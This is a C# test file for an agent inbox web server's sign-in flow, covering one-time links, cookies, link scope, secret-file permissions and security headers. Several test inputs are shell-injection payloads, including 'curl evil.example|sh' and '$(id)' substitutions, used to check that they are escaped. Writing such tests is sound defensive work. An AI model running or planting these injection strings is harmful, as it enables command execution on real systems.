using System.Net;
using System.Text.RegularExpressions;
using AgentMcp.Server.Inbox;
using AgentMcp.Server.Tests.Running;
using AgentMcp.State.Threads;

namespace AgentMcp.Server.Tests.Inbox;

public sealed partial class Only_who_signed_in_sees_pages(SharedServers servers)
{
    public static TheoryData<string> Pages => new()
    {
        "/", "/requests/req_00000000000000000000000000000000_1", "/threads", "/threads/thr_00000000000000000000000000000000", "/threads/thr_00000000000000000000000000000000/log.json",
        "/threads/thr_00000000000000000000000000000000/steps/2", "/agents", "/agents/calculator", "/live",
    };

    private string Database => servers.DatabaseOf(Transport.Http, Ways.Newest);

    [Theory]
    [Trait("Accepts", "W.3")]
    [MemberData(nameof(Pages))]
    public async Task No_page_is_shown_without_the_cookie_and_the_refusal_says_how_to_sign_in(string path)
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var stranger = Visitor.Stranger(server.Url!);
        using var reply = await stranger.Get(path);
        Assert.Equal(HttpStatusCode.Unauthorized, reply.StatusCode);
        var page = await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Contains("Open the sign-in link that the server printed when it started.", page, StringComparison.Ordinal);
        Assert.Contains($"agentmcp inbox --sign-in {stranger.Site}{path}", page, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/requests/x;curl%20evil.example%7Csh", "/requests/x%3Bcurl%20evil.example%7Csh")]
    [InlineData("/agents/$(id)%60id%60&'%22%3E%0Aid*", "/agents/%24%28id%29%60id%60%26%27%22%3E%0Aid%2A")]
    [InlineData("/threads/caf%C3%A9/log.json", "/threads/caf%C3%A9/log.json")]
    public async Task Of_an_address_that_somebody_made_up_it_has_nothing_run_that_a_shell_reads(string path, string shown)
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var stranger = Visitor.Stranger(server.Url!);

        Assert.Equal($"agentmcp inbox --sign-in {stranger.Site}{shown}", await Command(stranger, path));
        using var entered = await stranger.Enter(Visitor.LinkTo(stranger.Site, Database, new Uri(stranger.Site + shown).AbsolutePath));
        Assert.Equal(shown, entered.Headers.GetValues("Location").Single());
    }

    [Fact]
    public async Task A_host_that_is_a_pattern_to_a_shell_is_shown_in_quotes()
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var stranger = Visitor.Stranger(server.Url!);

        Assert.Equal("agentmcp inbox --sign-in \"http://[::1]:8484/threads\"", await Command(stranger, "/threads", host: "[::1]:8484"));
    }

    [Fact]
    public async Task A_link_works_once_and_only_when_its_button_is_pressed()
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var person = Visitor.Stranger(server.Url!);
        var link = Visitor.LinkTo(person.Site, Database, "/threads");

        // Mail scanners and previews look at links; looking must not use one up.
        for (var look = 0; look < 3; look++)
        {
            using var seen = await person.Get(link);
            Assert.Equal((HttpStatusCode.OK, false), (seen.StatusCode, seen.Headers.Contains("Set-Cookie")));
        }

        using (var entered = await person.Enter(link))
        {
            Assert.Equal((HttpStatusCode.SeeOther, "/threads"), (entered.StatusCode, entered.Headers.Location?.ToString()));
            var cookie = Assert.Single(entered.Headers.GetValues("Set-Cookie"));
            Assert.Matches("^agentmcp_[0-9a-f]{8}=[^;]+; expires=[^;]+; path=/; samesite=strict; httponly$", cookie);
        }

        Assert.Contains("<h1>Threads</h1>", await person.Page("/threads"), StringComparison.Ordinal);
        using var other = Visitor.Stranger(server.Url!);
        using var again = await other.Get(link);
        Assert.Equal(HttpStatusCode.Unauthorized, again.StatusCode);
        Assert.Contains("was used already, or has expired", await again.Content.ReadAsStringAsync(TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Of_many_who_press_the_button_at_once_one_gets_in()
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        var code = Visitor.LinkTo("http://x", Database).Split('=')[1];
        var replies = await Task.WhenAll(Enumerable.Range(0, 8).Select(async _ =>
        {
            using var person = Visitor.Stranger(server.Url!);
            using var reply = await person.Post("/sign-in", ("code", code));
            return reply.StatusCode;
        }));
        Assert.Equal([HttpStatusCode.SeeOther], replies.Where(reply => reply != HttpStatusCode.Unauthorized));
    }

    [Theory]
    [InlineData("expired")]
    [InlineData("altered")]
    [InlineData("of another database")]
    [InlineData("a session of its own")]
    [InlineData("nonsense")]
    public async Task No_other_link_gets_anybody_in(string kind)
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var folder = new TestFolder();
        var good = Visitor.LinkTo("http://x", Database).Split('=')[1];
        using var insider = await Visitor.SignedIn(server.Url!, Database);
        var code = kind switch
        {
            "expired" => Visitor.LinkTo("http://x", Database, lifetime: TimeSpan.FromSeconds(-1)).Split('=')[1],
            "altered" => (good[0] == 'A' ? 'B' : 'A') + good[1..],
            "of another database" => Visitor.LinkTo("http://x", folder.Database).Split('=')[1],
            "a session of its own" => insider.Cookies.GetAllCookies().Single().Value,
            _ => "x.y",
        };
        using var person = Visitor.Stranger(server.Url!);
        using var reply = await person.Post("/sign-in", ("code", code));
        Assert.Equal((HttpStatusCode.Unauthorized, false), (reply.StatusCode, reply.Headers.Contains("Set-Cookie")));
    }

    [Fact]
    public async Task A_link_to_one_page_opens_that_page_alone()
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        var pending = await server.Do("calculator", new { message = "divide 3 by 4" });
        var page = $"/requests/{pending.RequestId}";
        using var guest = Visitor.Stranger(server.Url!);
        using (var entered = await guest.Enter(Visitor.LinkTo(guest.Site, Database, page, scope: page)))
        {
            Assert.Equal(page, entered.Headers.Location?.ToString());
        }

        var body = await guest.Page(page);
        Assert.DoesNotContain("href=\"/threads\"", body, StringComparison.Ordinal);
        foreach (var other in new[] { "/", "/threads", $"/threads/{pending.ThreadId}", "/agents", "/live" })
        {
            using var refused = await guest.Get(other);
            Assert.Equal(HttpStatusCode.Unauthorized, refused.StatusCode);
        }
    }

    [Fact]
    public async Task Signing_out_ends_the_session_of_this_browser()
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var person = await Visitor.SignedIn(server.Url!, Database);
        using (await person.Answer("/sign-out"))
        {
            using var after = await person.Get("/");
            Assert.Equal(HttpStatusCode.Unauthorized, after.StatusCode);
        }
    }

    [Fact]
    public void The_secret_can_be_read_by_its_owner_alone_and_one_that_others_can_read_is_not_used()
    {
        if (OperatingSystem.IsWindows())
        {
            Assert.Skip("Windows has no such permissions.");
            return;
        }

        using var folder = new TestFolder();
        _ = new LocalAccess(folder.Database, TimeProvider.System).SignInLink("http://x", TimeSpan.FromMinutes(1));
        var secret = folder.Database + "-access";
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(secret));

        File.SetUnixFileMode(secret, File.GetUnixFileMode(secret) | UnixFileMode.OtherRead);
        var refused = Assert.Throws<RefusedException>(() => new LocalAccess(folder.Database, TimeProvider.System).SignInLink("http://x", TimeSpan.FromMinutes(1)));
        Assert.Contains("may be read by others", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_page_forbids_what_it_does_not_need()
    {
        var server = await servers.Of(Transport.Http, Ways.Newest);
        using var person = await Visitor.SignedIn(server.Url!, Database);
        foreach (var path in new[] { "/", "/threads", "/agents", "/agents/calculator", "/threads/nothing" })
        {
            using var reply = await person.Get(path);
            string Header(string name) => string.Join(',', reply.Headers.GetValues(name));
            Assert.Equal("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'",
                Header("Content-Security-Policy"));
            Assert.Equal(("nosniff", "DENY", "no-store", "same-origin"), (Header("X-Content-Type-Options"), Header("X-Frame-Options"), Header("Cache-Control"), Header("Referrer-Policy")));
            var page = await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
            Assert.DoesNotMatch("""<script(?! src="/inbox\.js" defer></script>)|<style| style=| on[a-z]+=|(?:src|href)="(?:https?:)?//""", page);
        }
    }

    private static async Task<string> Command(Visitor stranger, string path, string? host = null)
    {
        using var reply = await stranger.Send(HttpMethod.Get, path, request => request.Headers.Host = host);
        return WebUtility.HtmlDecode(Shown().Match(await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).Groups[1].Value);
    }

    [GeneratedRegex("<pre tabindex=\"0\"><code>(.*)</code></pre>", RegexOptions.Singleline)]
    private static partial Regex Shown();
}
